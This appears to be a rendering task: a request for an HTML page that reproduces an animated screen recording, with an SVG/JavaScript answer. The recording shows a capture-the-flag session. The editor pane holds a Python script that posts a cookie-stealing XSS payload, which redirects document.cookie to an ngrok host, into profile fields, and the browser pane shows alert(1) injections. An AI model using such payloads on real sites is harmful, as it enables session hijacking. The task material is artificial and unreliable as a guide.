
Write an HTML page that moves like this. It is 1038 px wide and 540 px high and loops after 8000 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<style>
  html, body { margin: 0; height: 100%; overflow: hidden; background: #191919; }
  svg { display: block; width: 100vw; height: 100vh; }
  text { white-space: pre; }
  .ui { font-family: "Noto Sans", sans-serif; }
  .page { font-family: "Liberation Sans", Arial, sans-serif; }
  .code, .pre { font-family: "DejaVu Sans Mono", monospace; }
  .serif { font-family: "Noto Serif", serif; }
  .bold { font-weight: bold; }
  .mid { text-anchor: middle; }
  .end { text-anchor: end; }
</style>
</head>
<body>
<svg id="stage" viewBox="0 0 1038 540"></svg>
<script>
const stage = document.getElementById('stage');
const LOOP = 8000, STEP = 100;

const esc = s => String(s).replace(/&/g, '&amp;').replace(/</g, '&lt;');
const text = (x, y, s, size, fill, cls) =>
  `<text x="${x}" y="${y}" font-size="${size}" fill="${fill}" class="${cls}">${esc(s)}</text>`;
const rect = (x, y, w, h, fill, r = 0, extra = '') =>
  `<rect x="${x}" y="${y}" width="${w}" height="${h}" fill="${fill}" rx="${r}" ${extra}/>`;
const line = (d, color, width = 1.2, extra = '') =>
  `<path d="${d}" fill="none" stroke="${color}" stroke-width="${width}" ${extra}/>`;
const dot = (x, y, r, fill) => `<circle cx="${x}" cy="${y}" r="${r}" fill="${fill}"/>`;

// ---------- code editor ----------
// "~" plus a letter switches the colour
const INK = {
  p: '#fc618d', w: '#f7f1ff', v: '#948ae3', g: '#7bd88f', y: '#fce566',
  d: '#8b888f', c: '#69676c', i: '#5ad4e6', n: '#5ad4e6'
};
const field = (name, gap) => `        ~d"~y${name}~d":${gap}~nƒ~d'{~vPAYLOAD~d}',`;
const SOURCE = [
  '~pfrom ~wrequests ~pimport ~wSession',
  '~pfrom ~wsys ~pimport ~wargv',
  '',
  '~vURL ~p= ~d"~yhttp://challenges.hackday.fr:61394~d"',
  '~vNGROK ~p= ~d"~y0.tcp.eu.ngrok.io:13083~d"',
  '~vTOKEN ~p= ~d""',
  '~c# Simple XSS payload, I just use ` instead of quotes',
  '~c# cause quotes are escaped',
  '~vPAYLOAD ~p= ~nƒ~d"""',
  '~y<script>',
  '~ywindow.location.href = `http://~d{~vNGROK~d}~y/?cookie=` + document.cookie',
  '~y<\/script>',
  '~d"""',
  '',
  '~ws ~p= ~gSession~d()',
  '',
  '~idef ~gmain~d():',
  `    ~vTOKEN ~p= ~ws~d.~gget~d(~vURL~p+~d"~y/profile~d").~wtext~d.~gsplit~d('~y<p id="token-value">~d')[~v1~d]`,
  '',
  '    ~gprint~d(~ws~d.~gpost~d(~vURL~p+~d"~y/profile~d", {',
  `        ~d"~yid~d": '~yguestpassmorecakes!!!!!!~d',`,
  '        ~d"~ytoken~d": ~vTOKEN~d,',
  field('description', ''), field('username', ' '), field('name', ' '), field('place', ' '),
  '    ~d}).~wtext~d)',
  '    ~gprint~d(~ws~d.~gget~d(~vURL~p+~d"~y/profile~d").~wtext~d)'
];
const CODE = 13.48, ROW = 18.42;
const rowY = i => 34 + i * ROW;

function codeLine(src, y) {
  const spans = src.split('~').map((part, i) => {
    if (!i) return esc(part);
    const k = part[0];
    return `<tspan fill="${INK[k]}"${'ci'.includes(k) ? ' font-style="italic"' : ''}>${esc(part.slice(1))}</tspan>`;
  });
  return `<text x="39" y="${y}" font-size="${CODE}" class="code">${spans.join('')}</text>`;
}

function editor(t) {
  const all = t >= 100, caret = all ? 663 : 670.5;
  const small = (x, y, s, fill) => text(x, y, s, 6.36, fill, 'code');
  const marker = (from, to, fill) => rect(0, 20 + (from - 1) * ROW, 1, (to - from + 1) * ROW, fill);
  const number = (x, i, n, on) => text(x, rowY(i), n, CODE, on ? '#f7f1ff' : '#525053', 'code end');
  const output = ['XSS detected !!!!!', 'Token is:', 'e003b956-e945-4885-a67b-c653e940d5de', '[Finished in 798ms]'];
  const menu = x => [4, 7, 10].map(y => dot(x, y, .8, '#a5a2a8')).join('');
  return rect(0, 0, 1038, 540, '#191919') + rect(624, 0, 414, 525, '#222222') + rect(622.5, 0, 1, 525, '#131313') +
    rect(0, 149, 36, ROW, '#242424') +
    marker(5, 5, '#b09f4c') + marker(7, 13, '#4f8a5d') + marker(21, 21, '#b09f4c') + marker(23, 26, '#b09f4c') +
    rect(39, 333, 1, 187, '#2a2a2a') + rect(72, 388, 1, 110, '#2a2a2a') +
    SOURCE.map((s, i) => number(25.5, i, i + 1, i === 7) + codeLine(s, rowY(i))).join('') +
    rect(618, 20, 4.5, 230, '#5c5c5c') + rect(0, 520, 492, 4.5, '#5c5c5c') +
    rect(624, 39, 38, 36.8, '#2d2d2d') + rect(caret, 57, 955 - caret, 18.4, '#363537') +
    number(649, 0, 1) + number(649, 1, 2, true) + number(649, 3, 3) +
    output.map((s, i) => text(663, rowY(i), s, CODE, INK.w, 'code')).join('') +
    rect(caret - .5, 56.5, 1.2, 19, '#f7f1ff') + rect(1034, 20, 4, 455, '#5c5c5c') +
    small(12, 9.8, 'get_token.py', INK.y) + rect(12, 14, 58, 1.2, '#cdbb55') +
    small(636, 9.8, 'Build output', INK.y) + small(687, 9.8, '×', '#c8c5cc') + rect(636, 14, 57, 1.2, '#cdbb55') +
    menu(614) + menu(1029.5) +
    rect(0, 525, 1038, 15, '#161616') + rect(5.5, 531, 5.5, 6, 'none', 1, 'stroke="#77747b" stroke-width=".8"') + rect(6, 531, 2, 6, '#77747b') +
    small(21, 536, (all ? 36 : 35) + ' characters selected', '#77747b') +
    small(941, 536, 'Tab Size: 4', '#77747b') + small(991, 536, 'Plain Text', '#77747b');
}

// ---------- web pages ----------
const HOME = 'Get back to home page';
const para = (x, y, s, fill = '#000', cls = '') => text(x, y, s, 9.6, fill, 'page ' + cls);
const h3 = (x, y, s) => text(x, y, s, 11.23, '#000', 'page bold');
const scrollbar = end => rect(1035, 39, 2.4, end - 39, '#85858c', 1.2);
const header = (bottom, title, y) => rect(0, 38, 1038, bottom - 38, '#333') +
  text(518.7, y, title, 19.2, '#fff', 'page bold mid');
const card = (x, y, w, h) => rect(x, y, w, h, '#fff', 5, 'style="filter:drop-shadow(0 1px 3px #0002)"');

function errorPage() {
  const item = (y, s, bullet = true) => (bullet ? dot(273.5, y - 3, 1.7, '#fbfbfe') : '') + text(280, y, s, 9.25, '#fbfbfe', 'ui');
  return rect(0, 38, 1038, 502, '#1c1b22') +
    text(260.5, 227, 'La connexion a été réinitialisée', 19.7, '#fbfbfe', 'ui bold') +
    text(260.5, 267, 'La connexion avec le serveur a été réinitialisée pendant le chargement de la page.', 10.63, '#fbfbfe', 'ui') +
    item(292, 'Le site est peut-être temporairement indisponible ou surchargé. Réessayez plus tard ;') +
    item(309.7, 'Si vous n’arrivez à naviguer sur aucun site, vérifiez la connexion au réseau de votre ordinateur ;') +
    item(327.3, 'Si votre ordinateur ou votre réseau est protégé par un pare-feu ou un proxy, assurez-vous que Quivarn est autorisé') +
    item(340, 'à accéder au Web.', false) +
    rect(697, 365.5, 77.5, 21.5, '#00ddff', 2.7) + text(735.7, 380.5, 'Réessayer', 9.3, '#1c1b22', 'ui bold mid');
}

const tokenPage = () => rect(0, 38, 1038, 502, '#fff') + text(4.5, 53.5, 'Token required.', 9.6, '#000', 'serif');

const UUID = '3c7ef666-1329-4ca4-a78d-83cdd866a247';
function profilePage() {
  const alertTag = '<script>alert(1)<\/script>';
  const block = (y, h, title, ...rows) => h3(278.3, y - 16.7, title) +
    rect(278.5, y + .5, 480, h, '#f3f3f3', 0, 'stroke="#dcdcdc" stroke-width=".8"') +
    rows.map((s, i) => text(288.4, y + 18.2 + i * 12, s, 7.2, '#000', 'pre')).join('');
  return rect(0, 38, 1038, 502, '#f3f3f3') + header(129, 'User Profile of', 83) + para(523.7, 115.3, HOME, '#fff', 'mid') +
    card(259, 148.5, 519.5, 420) +
    block(208, 42.5, 'Profile Data :', `{"username":"${alertTag}","name":"<script>alert(1)</`,
      `script>","description":"${alertTag}","place":"${alertTag}","isVerified":false}`) +
    block(292.2, 30.7, 'Token :', UUID) +
    block(364.3, 30.7, 'Contact ID :', '<script>alert(111111)<\/script>') +
    block(436.5, 30.7, 'Account verified :', 'false') +
    h3(278.3, 492.5, 'Messages received') + para(278.3, 520.5, 'No messages have been sent to this user yet.') +
    scrollbar(511);
}

function blogPage() {
  const X = 18.7;
  const byline = (y, on) => text(X, y, `By : Orchestrator, ${on} : Sat Jan 25 2025`, 8, '#f00', 'page') +
    rect(X, y + 13.6, 1000, .8, '#d8d8d8');
  return rect(0, 38, 1038, 502, '#fff') + header(129, 'Blog', 83) +
    para(397.3, 115.3, 'Create Article', '#fff') + para(467.8, 115.3, 'Create Profile/Register', '#fff') +
    para(577.3, 115.3, 'Send a message', '#fff') +
    text(X, 177, 'Last articles released', 14.4, '#000', 'page bold') +
    h3(X, 208.3, 'Anti XSS') +
    para(X, 236, 'After a few breachs, counter XSS function had been implemented to secure the Blog, now profile creation is submitted to proper sanitization !') +
    byline(261, 'on') +
    h3(X, 299.3, 'Publish an article to get your profile verified !') +
    para(X, 327, 'You want to get your Account verified ? Publish your first article and an Orchestrator will check your profile !') +
    para(X, 352, 'Notice that even if your account is verified, for every article published, your account will be visited by an Admin for safety reasons.') +
    byline(377, 'On') +
    h3(X, 415.3, 'Message Feature available !') +
    para(X, 443, 'You can now send message, using the contact ID printed on your profile at registration. Share it with other people if you want to receive messages !') +
    byline(468, 'On') +
    h3(X, 506.5, 'CODE LEAK') + scrollbar(224);
}

function releasePage() {
  const input = (y, h, label) => para(297.5, y - 18.7, label, '#333', 'bold') +
    rect(297.8, y + .4, 442, h, '#fff', 2.7, 'stroke="#ccc" stroke-width=".9"');
  return rect(0, 38, 1038, 502, '#f3f3f3') + header(127, 'Release articles', 75) + para(518.7, 109, HOME, '#fff', 'mid') +
    card(278.3, 147, 480.7, 386.5) +
    input(195.7, 26.5, 'Title :') + input(267.3, 134.5, 'Content :') + input(446, 27, 'Token :') +
    line('M732 401L739 394M735.5 401L739 397.5', '#777', .9) +
    rect(297.4, 488, 442.6, 26, '#333', 2.7) + text(518.7, 504.8, 'Release', 9.1, '#fff', 'page mid') + scrollbar(531);
}

// ---------- browser chrome ----------
const SITE = ['challenges.', 'hackday.fr', ':61394'];
const site = path => [SITE[0], SITE[1], SITE[2] + path];
const TRANSFER = 'Transfert des données depuis challenges.hackday.fr…';
const LIGHT = '#fbfbfe', DIM = '#696871';

const VIEWS = [
  { at: 0 },
  { at: 600, page: errorPage, url: ['0.', 'tcp.eu.ngrok.io', ':13083/?cookie='], info: true },
  { at: 2000, page: tokenPage, url: site('/user?token='), forward: true, translate: true },
  { at: 2700, page: profilePage, url: site('/user?token='), id: UUID, forward: true },
  { at: 4100, page: profilePage, url: site('/user?token='), id: UUID, forward: true, status: SITE.join('') },
  { at: 4400, page: profilePage, url: site(''), loading: true, status: TRANSFER },
  { at: 4900, page: blogPage, url: site(''), loading: true, translate: true, status: TRANSFER },
  { at: 5800, page: blogPage, url: site(''), loading: true, translate: true, status: SITE.join('') + '/new' },
  { at: 6400, page: blogPage, url: site('/new'), loading: true, status: TRANSFER },
  { at: 7200, page: blogPage, url: site('/new'), loading: true, translate: true, status: TRANSFER },
  { at: 7700, page: releasePage, url: site('/new'), reloadDim: true, translate: true }
];

const arrow = (x, dir, color) => line(`M${x - 4.5 * dir} 24H${x + 4.5 * dir}M${x - .5 * dir} 20L${x - 4.5 * dir} 24L${x - .5 * dir} 28`, color);

function chrome(view, t, hover) {
  const left = view.info ? 175 : 193.3;
  const lead = view.info
    ? `<circle cx="162.3" cy="24" r="4.7" fill="none" stroke="${LIGHT}"/>` + line('M162.3 23.3V26.8M162.3 21V22.2', LIGHT)
    : line('M162.5 19L167 20.5V23.5Q167 27.5 162.5 29.3Q158 27.5 158 23.5V20.5Z', LIGHT) +
      rect(178, 23.5, 7, 5, 'none', 1, `stroke="${LIGHT}"`) +
      line('M179.5 23V21.3Q179.5 19 181.5 19T183.5 21.3V23', LIGHT) + line('M177.3 20L186 29', '#ff4f6a', 1.3);
  const reload = view.loading
    ? line('M59.3 20.3L66.7 27.7M66.7 20.3L59.3 27.7', LIGHT)
    : line('M66.4 21.5A4.3 4.3 0 1 0 67.2 25M67.2 19V22.4H63.8', view.reloadDim ? DIM : LIGHT);
  const translate = line('M761 20.5H768M764.5 19V20.5M767 20.5Q765.5 25 761 26.5M762 22Q763.5 25 766 26M765.5 29L768.5 22.5L771.5 29M766.5 27H770.5', LIGHT, 1);
  const [a, b, c] = view.url.map(esc);
  return rect(0, 0, 1038, 11, '#1c1b22') + rect(27, 0, .8, 10, '#44434d') +
    rect(240, -5, 146.5, 12.5, '#52525e', 2) + (t >= 2000 && t < 2200 ? `<path d="M241 0H266Q263 7 255 7.5H241Z" fill="#3b68a8"/>` : '') +
    text(265, -1.5, view.info ? 'Problème de chargement' : 'challenges app', 9, LIGHT, 'ui') + text(153, -1.5, 'p', 9, LIGHT, 'ui') +
    rect(0, 11, 1038, 26.5, '#2b2a33') + rect(0, 37, 1038, 1, view.info ? '#3c3b44' : '#17161c') +
    rect(153, 13, 684.5, 22, '#1c1b22', 2.7) +
    (hover ? rect(5, 13, 21, 21.5, t === 1900 ? '#66656f' : '#54535d', 2.7) : '') +
    arrow(15.3, 1, LIGHT) + arrow(39, -1, view.forward ? LIGHT : DIM) + reload + lead +
    `<text x="${left}" y="28.4" font-size="12.33" class="ui" fill="#92919b">${a}<tspan fill="${LIGHT}">${b}</tspan>${c}<tspan font-size="12.8">${view.id || ''}</tspan></text>` +
    (view.translate ? translate : '') +
    (view.info ? '' : rect(779, 16, 34, 16.3, '#52525e', 2.7) + text(796, 28.2, '90 %', 11.3, LIGHT, 'ui mid')) +
    line('M826.7 19L828.2 22.3L831.7 22.7L829.1 25.1L829.8 28.7L826.7 26.9L823.6 28.7L824.3 25.1L821.7 22.7L825.2 22.3Z', LIGHT, 1) +
    line('M926.3 19V26M923.3 23.3L926.3 26.3L929.3 23.3M922 26V28.5H930.7V26', LIGHT) +
    line('M947 21.5H949.5V20.2Q951 17.8 952.5 20.2V21.5H955V28.5H947V26Q950 26 950 24.7T947 23.5Z', LIGHT, 1.1) +
    dot(974.5, 24, 5, '#2c0aa5') + dot(998, 24.5, 4.5, '#e5b78d') + dot(1001.3, 18.8, 4.5, '#e22850') + rect(998.6, 17.8, 5.4, 2, '#fff') +
    line('M1018 20.5H1026M1018 24H1026M1018 27.5H1026', LIGHT);
}

// ---------- pointer ----------
const PATH = [
  [0, 668, 72], [300, 742, 44], [600, 742, 42], [1400, 232, 28], [1600, 0, 36], [2600, 0, 36], [3500, 349, 69.5],
  [4100, 480, 108], [4300, 480, 108], [4700, 433.5, 60], [5300, 434, 68], [6000, 431, 106], [6300, 431, 106],
  [7200, 156, 248], [7400, 155, 248], [7500, 155, 248], [7900, 208, 238.5]
];
function pointerAt(t) {
  const i = PATH.findIndex(p => p[0] > t);
  if (i < 0) return PATH[PATH.length - 1].slice(1);
  const [t0, x0, y0] = PATH[i - 1], [t1, x1, y1] = PATH[i], k = (t - t0) / (t1 - t0);
  return [x0 + (x1 - x0) * k, y0 + (y1 - y0) * k];
}
const CURSORS = {
  beam: line('M-2 -5Q0 -5 0 -3V3Q0 5 -2 5M2 -5Q0 -5 0 -3M0 3Q0 5 2 5', '#fff', 1),
  arrow: '<path d="M0 0V9.5L2.2 7.4L3.8 11L5.3 10.3L3.8 6.8H6.6Z" fill="#000" stroke="#fff" stroke-width=".7"/>',
  hand: '<path d="M0 0Q1.5-.8 1.5 1V4L5 5V8L4 10.5H0L-2.3 6.5L0 6.5Z" fill="#000" stroke="#fff" stroke-width=".7"/>'
};

function statusBar(label) {
  if (!label) return;
  const box = stage.querySelector('#status');
  box.innerHTML = text(2.2, 538.8, label, 11.75, LIGHT, 'ui');
  const width = box.firstChild.getComputedTextLength() + 4.5;
  box.innerHTML = rect(-4, 525, width + 4, 20, '#1c1b22', 2.7) + box.innerHTML;
}

function draw(t) {
  const view = VIEWS.filter(v => v.at <= t).pop();
  const [x, y] = pointerAt(t);
  const overLink = (t >= 4100 && t <= 4300) || (t >= 5800 && t <= 6300);
  const kind = !view.page ? 'beam' : overLink ? 'hand' : 'arrow';
  stage.innerHTML = (view.page ? view.page() + chrome(view, t, x < 26 && y < 38) : editor(t)) +
    `<g id="status"></g><g transform="translate(${x} ${y})">${CURSORS[kind]}</g>`;
  statusBar(view.status);
}

let shown = -1;
function tick() {
  const t = Math.floor(performance.now() % LOOP / STEP) * STEP;
  if (t !== shown) draw(shown = t);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
